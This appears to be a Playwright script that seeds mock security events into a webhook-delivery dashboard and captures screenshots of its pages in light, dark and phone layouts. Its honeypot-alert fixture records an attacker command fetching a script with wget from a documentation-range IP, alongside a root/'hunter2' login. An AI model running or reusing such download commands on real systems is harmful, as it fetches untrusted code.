/*
 * The pictures: each main screen light, some dark and as wide as a phone.
 */

import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { api, browser, env, go, ingest, open, session, waitFor } from './lib.mjs';

const dir = process.argv[2];
const { context, end } = await browser();
const page = await open(context);

mkdirSync(dir, { recursive: true });

const theme = (t) => page.evaluate((x) => { document.documentElement.dataset.theme = x; }, t);

/* As high as the page is, up to a limit. */

async function shot(name, { width = 1280, most = 1300, top } = {}) {
    await page.setViewportSize({ width, height: 860 });
    await page.mouse.move(0, 0);
    await page.evaluate(() => document.activeElement?.blur?.());
    await page.waitForTimeout(450);
    const high = await page.evaluate(() => document.documentElement.scrollHeight);

    await page.setViewportSize({ width, height: top || Math.min(Math.max(high, width < 500 ? 780 : 640), most) });
    await page.waitForTimeout(350);
    await page.screenshot({ path: join(dir, `${name}.png`) });
    await page.setViewportSize({ width: 1280, height: 860 });
}


// a day's work

const ip = (i) => `198.51.100.${20 + i * 7 % 200}`;
const alert = (i) => ({ honeypot: `ssh-dmz-${1 + i % 4}`, severity: ['high', 'critical', 'medium'][i % 3],
    source: { ip: ip(i), port: 51422 + i, country: ['NL', 'BR', 'VN', 'US'][i % 4] },
    credentials: { username: 'root', password: 'hunter2' }, commands: ['uname -a', `wget http://${ip(i)}/x.sh`] });
const found = (i) => ({ asset: `web-${1 + i % 6}.acme.example`, cve: `CVE-2026-${3100 + i}`, severity: 'critical', cvss: 9.8,
    port: 443, first_seen: '2026-11-24T09:12:44.120Z' });
const story = [['honeypot.alert', alert], ['honeypot.login', alert], ['vulnerability.found', found], ['scan.finished', found],
               ['honeypot.alert', alert], ['asset.discovered', found], ['honeypot.login', alert]];

for (let i = 0; i < 14; i++) {
    const [name, make] = story[i % story.length];

    await ingest('acme', name, JSON.stringify(make(i)));
    await new Promise((r) => { setTimeout(r, 700); });
}
for (let i = 0; i < 9; i++) {
    await ingest('acme', 'vulnerability.found', JSON.stringify(found(20 + i)));
    await new Promise((r) => { setTimeout(r, 300); });
}
for (const i of [1, 2, 4]) {
    await ingest('acme', story[i][0], JSON.stringify(story[i][1](i + 40)));
}

await waitFor('the deliveries', async () => (await api('GET', '/companies/acme/webhook-events?status=pending&limit=250')).data
    .every((e) => e.waiting_for === 'schedule' || e.waiting_for === 'breaker'));

const hooks = (await api('GET', '/companies/acme/webhooks')).data;
const id = (name) => hooks.find((w) => w.description === name).id;

await session(page, 'acme');
await page.waitForSelector('.hook');
await page.waitForTimeout(600);
await shot('webhooks');
await theme('dark');
await shot('webhooks-dark');
await theme('light');
await shot('webhooks-phone', { width: 390, most: 900 });

await go(page, `/webhooks/${id('SIEM')}?range=7d`);
await shot('webhook');
await theme('dark');
await go(page, `/webhooks/${id('Data lake')}?range=24h`);
await shot('webhook-dark');
await theme('light');
await go(page, `/webhooks/${id('SIEM')}?range=24h`);
await page.click('text=Send test event');
await page.waitForSelector('.test-row.good');
await shot('test', { top: 780 });
await shot('webhook-phone', { width: 390, most: 1250 });

await go(page, `/webhooks/${id('SIEM')}/settings`);
await page.click('button:has-text("Refresh")');
await page.waitForSelector('dialog');
await shot('refresh', { top: 780 });
await page.keyboard.press('Escape');
await go(page, `/webhooks/${id('SIEM')}/verify?in=go`);
await shot('verify', { most: 1150 });

await go(page, '/webhooks/new');
await page.fill('input[type=url]', 'https://hooks.acme.example/security');
await page.fill('[data-pointer="/description"] input', 'SOC');
await page.check('[data-name="honeypot.*"]');
await page.check('[data-name="scan.finished"]');
await page.evaluate(() => { document.querySelector('.tree').scrollTop = 0; });
await shot('add', { most: 1150 });

await go(page, '/events');
await page.waitForSelector('.notice.bad');
await page.click('.event-row:not(.run):has-text("Ticket system") .fold >> nth=0');
await page.waitForSelector('.target');
await shot('events', { most: 1000 });
await theme('dark');
await shot('events-dark', { most: 1000 });
await theme('light');
await shot('events-phone', { width: 390, most: 900 });

await page.click('button:has-text("Replay …")');
await page.waitForSelector('dialog');
await page.selectOption('dialog select', '');
await page.check('dialog .choose input >> nth=0');
await page.check('dialog .choose input >> nth=3');
await page.waitForSelector('dialog button:has-text("Replay ")');
await shot('replay', { top: 780 });
await page.keyboard.press('Escape');

const trouble = (await api('GET', `/companies/acme/webhook-events?webhook=${id('Ticket system')}&status=pending&limit=30`)).data
    .filter((e) => e.next_attempt_at).pop();

await go(page, `/events/${trouble.message_id}`);
await page.waitForSelector('.attempt[open]');
await shot('event', { most: 1300 });

await api('POST', '/companies', { uid: 'novel', name: 'Novel Bank' });
await session(page, 'novel');
await page.waitForSelector('.ask');
await shot('access', { top: 640 });
await page.click('[aria-label="Sign out"]');
await page.waitForSelector('input[type=password]');
await page.fill('input[type=password]', env.KEY);
await page.click('button[type=submit]');
await page.waitForSelector('.request');
await shot('operator', { top: 560 });

if (page.bad.length) {
    console.error(page.bad.join('\n'));
    process.exitCode = 1;
}

await end();
